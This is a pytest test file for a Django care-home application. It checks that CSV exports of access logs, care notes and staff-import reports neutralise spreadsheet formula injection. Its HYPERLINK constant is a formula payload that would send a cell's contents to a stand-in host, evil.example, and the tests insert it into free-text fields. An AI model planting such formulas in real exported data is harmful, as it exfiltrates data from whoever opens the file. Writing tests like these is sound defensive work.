"""Every CSV export that holds free text comes out inert in a spreadsheet (one helper: carehub/spreadsheets.py).

The directory's site CSV is covered in tests/directory/test_sites.py (test_site_csv).
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.utils.translation import override

from backoffice import gdpr, imports
from carehub.access_log import log_access
from carehub.models import AccessLog
from coordination.models import Resident
from tests.coordination.factories import CareNoteFactory

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1;"Open")'


@pytest.fixture(autouse=True)
def _files_in_tmp(media_root):
    """The record ZIP spools its files under the test's own temporary directory."""


@pytest.fixture
def resident_a(site_a, unit_a):
    return Resident.objects.create(site=site_a, unit=unit_a, first_name="Rose", last_name="Martin", room="12")


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def test_search_terms_in_the_access_history_csv_are_inert(resident_a, staff_a):
    log_access(None, AccessLog.Action.VIEW, resident_a, user=staff_a, query=HYPERLINK)
    with override("en"):
        rows = _rows(gdpr.access_history_csv(resident_a))
    assert rows[1][rows[0].index("search terms")] == "'" + HYPERLINK


def test_a_care_note_in_the_record_zip_is_inert(resident_a, staff_a):
    CareNoteFactory(resident=resident_a, author=staff_a, data=HYPERLINK)
    with override("en"):
        archive = zipfile.ZipFile(gdpr.resident_record_zip(resident=resident_a))
    rows = _rows(archive.read("transmissions.csv"))
    assert rows[1][rows[0].index("data")] == "'" + HYPERLINK


def test_a_name_in_the_import_report_csv_is_inert(coordinator_a, site_a):
    upload = io.StringIO()
    writer = csv.writer(upload, delimiter=";")
    writer.writerow(["Matricule", "Nom", "Prénom", "Email", "Fonction", "Établissement", "Unité", "Date entrée"])
    writer.writerow(["RH-9", HYPERLINK, "Léa", "lea.evil@carehub.test", "IDE", site_a.name, "", ""])
    plan = imports.plan_import(kind="staff", text=upload.getvalue(), user=coordinator_a)
    with override("en"):
        rows = _rows(imports.plan_report_csv(plan))
    assert rows[1][rows[0].index("Name")] == f"'{HYPERLINK} Léa"
